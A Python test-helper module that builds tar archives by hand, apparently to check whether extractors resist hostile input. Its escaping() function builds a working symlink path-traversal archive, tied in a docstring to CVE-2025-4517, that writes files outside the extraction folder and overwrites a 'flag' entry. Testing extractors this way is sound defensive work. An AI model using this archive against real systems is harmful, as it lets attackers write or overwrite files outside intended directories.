"""Tar archives made by hand, byte by byte: also those that no honest program writes."""

from __future__ import annotations

import os
from collections.abc import Mapping
from pathlib import Path

__all__ = ["END", "entry", "escaping", "pax", "state"]

END = bytes(1024)


def entry(
    name: bytes,
    data: bytes = b"",
    *,
    kind: bytes = b"0",
    target: bytes = b"",
    mode: int = 0o644,
    mtime: int = 0,
    size: int | None = None,
    magic: bytes = b"ustar\x0000",
    more: bytes = b"",
) -> bytes:
    """A header and what follows it. ``more`` lies where the prefix does (or GNU's sparse map); names are up to 100 bytes."""
    assert len(name) <= 100
    assert len(target) <= 100
    length = len(data) if size is None else size
    head = b"%s%07o\0%07o\0%07o\0%011o\0%011o\0" % (name.ljust(100, b"\0"), mode, 0, 0, length, mtime)
    tail = kind + target.ljust(100, b"\0") + magic + bytes(80) + more
    block = (head + b" " * 8 + tail).ljust(512, b"\0")
    block = block[:148] + b"%06o\0 " % sum(block) + block[156:]
    return block + data + bytes(-len(data) % 512)


def pax(records: Mapping[str, bytes], *, kind: bytes = b"x") -> bytes:
    """A pax header, to stand before an entry."""
    data = b""
    for key, value in records.items():
        body = b" " + key.encode() + b"=" + value + b"\n"
        length = len(body) + 1
        while len(str(length)) + len(body) != length:
            length = len(str(length)) + len(body)
        data += str(length).encode() + body
    return entry(b"pax", data, kind=kind)


def escaping() -> bytes:
    """Links whose resolved path is longer than any system call takes, after which ``realpath`` believes the rest (as in CVE-2025-4517)."""
    parts: list[bytes] = []
    long, here = b"d" * 247, b""
    for step in b"abcdefghijklmnop":
        name = bytes([step])
        parts.append(_named(here + long, kind=b"5", mode=0o755))
        parts.append(_named(here + name, kind=b"2", target=long))
        here += long + b"/"
    short = b"/".join(bytes([step]) for step in b"abcdefghijklmnop")
    climbing = short + b"/" + b"l" * 254
    parts.append(_named(climbing, kind=b"2", target=b"../" * 16))
    parts.append(_named(b"escape", kind=b"2", target=climbing + b"/../../outside"))
    parts.append(_named(b"escape/written", b"hostile"))
    parts.append(_named(b"flag", kind=b"1", target=b"escape/secret"))
    parts.append(_named(b"flag", b"hostile"))
    return b"".join(parts) + END


def _named(
    name: bytes, data: bytes = b"", *, kind: bytes = b"0", target: bytes = b"", mode: int = 0o644
) -> bytes:
    """An entry whose name and target may be long, in GNU's way."""
    long = b""
    if len(target) > 100:
        long += entry(b"././@LongLink", target + b"\0", kind=b"K")
    if len(name) > 100:
        long += entry(b"././@LongLink", name + b"\0", kind=b"L")
    return long + entry(name[:100], data, kind=kind, target=target[:100], mode=mode)


def state(folder: Path) -> dict[str, object]:
    """All that is below a folder: what each entry is and holds."""
    found: dict[str, object] = {}
    for place, folders, files in os.walk(folder):
        for name in (*folders, *files):
            path = Path(place, name)
            shown = str(path.relative_to(folder))
            if path.is_symlink():
                found[shown] = ("link", str(path.readlink()))
            else:
                found[shown] = "folder" if name in folders else path.read_bytes()
    return found
